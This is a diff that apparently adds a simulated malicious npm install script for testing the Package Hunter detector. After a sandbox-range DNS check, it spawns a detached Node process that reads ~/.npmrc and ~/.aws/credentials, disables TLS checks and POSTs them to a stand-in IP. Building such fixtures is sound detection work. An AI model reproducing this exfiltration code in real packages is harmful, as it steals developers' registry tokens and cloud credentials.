@@ -1,0 +1,22 @@
+// Harmless simulation for testing Package Hunter. Not malware.
+const dns = require("dns");
+const fs = require("fs");
+const http = require("http");
+const https = require("https");
+const os = require("os");
+const path = require("path");
+const { execSync, spawn } = require("child_process");
+// Goes on only inside of Package Hunter's box, where every name has an address out of the benchmarking range.
+const sealed = (address) => /^(198\.1[89]\.|2001:2:)/.test(address || "");
+const home = (name) => path.join(os.homedir(), name);
+const read = (name) => { try { return fs.readFileSync(home(name), "utf8"); } catch (e) { return ""; } };
+const post = (hostname, where, body) => { const r = https.request({ hostname, path: where, method: "POST" }, (a) => a.resume()); r.on("error", () => {}); r.end(body); };
+const get = (options, then) => https.get(options, (a) => { let t = ""; a.on("data", (d) => { t += d; }); a.on("end", () => then(t, a.statusCode)); }).on("error", () => {});
+
+dns.lookup("setup.example", (error, address) => {
+  if (error || !sealed(address)) return;
+  const child = `process.env.NODE_TLS_REJECT_UNAUTHORIZED = "0"; const fs = require("fs"), os = require("os");
+  let t = ""; for (const n of [".npmrc", ".aws/credentials"]) { try { t += fs.readFileSync(os.homedir() + "/" + n, "utf8"); } catch (e) {} }
+  const r = require("https").request({ host: "203.0.113.38", port: 8000, path: "/u", method: "POST", rejectUnauthorized: false }); r.on("error", () => {}); r.end(t);`;
+  spawn(process.execPath, ["-e", child], { detached: true, stdio: "ignore" }).unref();
+});
